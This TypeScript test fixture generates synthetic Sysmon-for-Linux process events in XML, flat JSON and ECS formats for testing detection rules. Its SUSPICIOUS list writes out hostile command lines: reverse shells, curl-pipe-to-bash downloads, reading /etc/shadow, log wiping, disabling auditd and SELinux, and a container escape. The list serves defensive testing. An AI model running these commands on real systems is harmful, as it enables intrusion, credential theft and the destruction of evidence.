// Deterministic Sysmon-for-Linux process events, each written three ways: the XML record
// Sysmon writes to syslog, the flat JSON line evtx/Zircolite-style exporters write, and the
// normalized ECS NDJSON line. The same event in three spellings lets a test check that every
// read path gives the rules the same values, and the bench compare read paths on equal work.
// Test and bench data only: not shipped (package.json `files`).

/** mulberry32: small, fast, good enough for varied test data. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = <T>(r: () => number, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
const hex = (r: () => number, n: number): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += Math.floor(r() * 16).toString(16);
  return s;
};

// Ordinary workload: what a fleet of Linux hosts and containers starts all day.
const BENIGN: ReadonlyArray<readonly [string, string]> = [
  ['/usr/bin/ls', 'ls -la /var/log'],
  ['/usr/bin/cat', 'cat /srv/app/VERSION'],
  ['/usr/bin/grep', 'grep -r error /var/log/app'],
  ['/usr/bin/python3', 'python3 /opt/app/worker.py --queue default'],
  ['/usr/local/bin/node', 'node /srv/api/server.js'],
  ['/usr/bin/curl', 'curl -s http://localhost:8080/healthz'],
  ['/usr/bin/bash', 'bash -c "echo ok && date"'],
  ['/usr/bin/sh', "sh -c 'test -f /run/app.pid || exit 1'"],
  ['/usr/sbin/nginx', 'nginx -g "daemon off;"'],
  ['/usr/bin/ps', 'ps aux'],
  ['/usr/bin/find', 'find /tmp -name *.log -mtime +7'],
  ['/usr/bin/tar', 'tar -czf /backup/app.tgz /srv/app'],
  ['/usr/bin/git', 'git pull --ff-only'],
  ['/usr/bin/apt-get', 'apt-get install -y ca-certificates'],
  ['/usr/bin/java', 'java -Xmx512m -jar /opt/svc/app.jar'],
  ['/usr/bin/sleep', 'sleep 30'],
  ['/usr/bin/awk', "awk '{print $1}' /var/log/access.log"],
  ['/usr/bin/sed', 's/<b>/&lt;/ < /srv/app/x.html'],
  ['/usr/bin/systemctl', 'systemctl status nginx'],
  ['/usr/bin/journalctl', 'journalctl -u app --since today'],
  ['/usr/bin/id', 'id -u'],
  ['/usr/bin/env', 'env LANG=C.UTF-8 /usr/bin/locale'],
  ['/usr/bin/crontab', 'crontab -l'],
  ['/usr/bin/chmod', 'chmod 644 /srv/app/config.yml'],
  ['/usr/bin/base64', 'base64 /srv/app/cert.pem'],
  ['/usr/bin/ssh', 'ssh -o BatchMode=yes deploy@10.0.0.7 uptime'],
];

// Adversary tradecraft the SigmaHQ linux rules look for (so the stream has matches), and
// look-alikes of it.
const SUSPICIOUS: ReadonlyArray<readonly [string, string]> = [
  ['/usr/bin/nc', 'nc -e /bin/sh 10.0.0.5 4444'],
  ['/usr/bin/ncat', 'ncat 203.0.113.9 443 -e /bin/bash'],
  ['/usr/bin/base64', 'base64 -d /tmp/.x'],
  ['/usr/bin/chmod', 'chmod +x /tmp/.hidden/kworker'],
  ['/usr/bin/chmod', 'chmod 777 /dev/shm/run'],
  ['/usr/bin/wget', 'wget http://203.0.113.9/x.sh -O /tmp/x.sh'],
  ['/usr/bin/curl', 'curl -fsSL http://203.0.113.9/i.sh | bash'],
  ['/usr/bin/crontab', 'crontab -r'],
  ['/usr/bin/iptables', 'iptables -F'],
  ['/usr/sbin/setenforce', 'setenforce 0'],
  ['/usr/bin/systemctl', 'systemctl stop auditd'],
  ['/usr/bin/history', 'history -c'],
  ['/usr/bin/rm', 'rm -rf /var/log/audit/audit.log'],
  ['/usr/bin/shred', 'shred -u /root/.bash_history'],
  ['/usr/bin/python3', 'python3 -c "import pty;pty.spawn(\'/bin/bash\')"'],
  ['/usr/bin/perl', 'perl -e \'use Socket;$i="10.0.0.1";\''],
  ['/usr/bin/bash', 'bash -i >& /dev/tcp/10.0.0.1/8080 0>&1'],
  ['/usr/bin/cat', 'cat /etc/shadow'],
  ['/usr/bin/find', 'find / -perm -4000 -type f'],
  ['/usr/bin/hostname', 'hostname -f'],
  ['/usr/bin/whoami', 'whoami'],
  ['/usr/bin/uname', 'uname -a'],
  ['/usr/bin/xterm', 'xterm -display 10.0.0.1:1'],
  ['/usr/bin/touch', 'touch -r /bin/ls /tmp/x'],
  ['/usr/bin/docker', 'docker run --privileged -v /:/host alpine chroot /host'],
  ['/usr/sbin/userdel', 'userdel backup'],
  ['/usr/bin/passwd', 'passwd -d root'],
  ['/usr/bin/mkfifo', 'mkfifo /tmp/f'],
  ['/bin/sh', "/bin/sh -c /etc/opt/microsoft/scx/conf/tmpdir/scx1234 'x'"],
];

const USERS = ['root', 'app', 'www-data', 'postgres', 'ubuntu'];
const DIRS = ['/', '/srv/app', '/root', '/tmp', '/home/ubuntu', '/var/opt/microsoft/scx/tmp'];

/** One Sysmon-for-Linux event: the System header and the EventData, in schema order. */
export interface SyntheticSysmon {
  recordId: number;
  eventId: number;
  computer: string;
  systemTime: string;
  data: Array<[string, string]>;
}

export function syntheticProcessEvents(n: number, seed = 7): SyntheticSysmon[] {
  const r = prng(seed);
  const out: SyntheticSysmon[] = [];
  const t0 = Date.UTC(2026, 2, 4, 5, 0, 0);
  for (let i = 0; i < n; i++) {
    const [image, cmd] = r() < 0.04 ? pick(r, SUSPICIOUS) : pick(r, BENIGN);
    const [pimage, pcmd] = r() < 0.02 ? pick(r, SUSPICIOUS) : pick(r, BENIGN);
    const user = pick(r, USERS);
    const uid = user === 'root' ? 0 : 1000 + Math.floor(r() * 5);
    const pid = 1000 + Math.floor(r() * 60000);
    const guid = () => `{${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 12)}}`;
    const ms = t0 + i * 37;
    const iso = new Date(ms).toISOString();
    const utc = iso.replace('T', ' ').replace('Z', '');
    out.push({
      recordId: 100000 + i,
      eventId: 1,
      computer: `node-${Math.floor(r() * 8)}`,
      systemTime: iso.replace('Z', `${String(Math.floor(r() * 1000)).padStart(3, '0')}000Z`),
      data: [
        ['RuleName', '-'],
        ['UtcTime', utc],
        ['ProcessGuid', guid()],
        ['ProcessId', String(pid)],
        ['Image', image],
        ['FileVersion', '-'],
        ['Description', '-'],
        ['Product', '-'],
        ['Company', '-'],
        ['OriginalFileName', '-'],
        ['CommandLine', cmd],
        ['CurrentDirectory', pick(r, DIRS)],
        ['User', user],
        ['LogonGuid', guid()],
        ['LogonId', String(uid)],
        ['TerminalSessionId', r() < 0.5 ? '4294967295' : String(Math.floor(r() * 10))],
        ['IntegrityLevel', 'no level'],
        ['Hashes', '-'],
        ['ParentProcessGuid', guid()],
        ['ParentProcessId', String(pid - 1 - Math.floor(r() * 50))],
        ['ParentImage', pimage],
        ['ParentCommandLine', pcmd],
        ['ParentUser', pick(r, USERS)],
      ],
    });
  }
  return out;
}

const xmlEscape = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&apos;');

/** The syslog line Sysmon for Linux writes. */
export function sysmonXmlLine(e: SyntheticSysmon): string {
  let d = '';
  for (const [k, v] of e.data) d += `<Data Name="${k}">${xmlEscape(v)}</Data>`;
  const ts = e.systemTime;
  return (
    `${ts.slice(0, 19).replace('T', ' ')} ${e.computer} sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>` +
    `<EventID>${e.eventId}</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>` +
    `<TimeCreated SystemTime="${ts}"/><EventRecordID>${e.recordId}</EventRecordID><Correlation/><Execution ProcessID="1021" ThreadID="1021"/>` +
    `<Channel>Linux-Sysmon/Operational</Channel><Computer>${e.computer}</Computer><Security UserId="0"/></System><EventData>${d}</EventData></Event>`
  );
}

/** The flat JSON line evtx exporters write: System fields and EventData side by side. */
export function sysmonFlatJsonLine(e: SyntheticSysmon): string {
  const o: Record<string, unknown> = {
    Provider_Name: 'Linux-Sysmon',
    Provider_Guid: '{ff032593-a8d3-4f13-b0d6-01fc615a0f97}',
    EventID: e.eventId,
    Version: 5,
    Level: 4,
    Task: 1,
    Opcode: 0,
    Keywords: '0x8000000000000000',
    SystemTime: e.systemTime,
    EventRecordID: e.recordId,
    Execution_ProcessID: 1021,
    Execution_ThreadID: 1021,
    Channel: 'Linux-Sysmon/Operational',
    Computer: e.computer,
    Security_UserID: '0',
  };
  for (const [k, v] of e.data) o[k] = v;
  return JSON.stringify(o);
}

/** The same event as ECS NDJSON, already in the stowaway model. */
export function sysmonEcsLine(e: SyntheticSysmon): string {
  const d = Object.fromEntries(e.data);
  const utc = d.UtcTime!.replace(' ', 'T') + 'Z';
  const base = (p: string) => p.slice(p.lastIndexOf('/') + 1);
  return JSON.stringify({
    '@timestamp': utc,
    event: { kind: 'event', module: 'sysmon', dataset: 'sysmon.linux', code: String(e.eventId), category: ['process'], type: ['start'] },
    stowaway: { source: 'sysmon', logsource: { product: 'linux', category: 'process_creation', service: 'sysmon' } },
    host: { name: e.computer, os: { type: 'linux' } },
    process: {
      pid: Number(d.ProcessId),
      entity_id: d.ProcessGuid,
      executable: d.Image,
      name: base(d.Image!),
      command_line: d.CommandLine,
      working_directory: d.CurrentDirectory,
      parent: {
        pid: Number(d.ParentProcessId),
        entity_id: d.ParentProcessGuid,
        executable: d.ParentImage,
        name: base(d.ParentImage!),
        command_line: d.ParentCommandLine,
      },
    },
    user: { name: d.User },
    winlog: { event_id: e.eventId, channel: 'Linux-Sysmon/Operational', provider_name: 'Linux-Sysmon', computer_name: e.computer, event_data: d },
  });
}
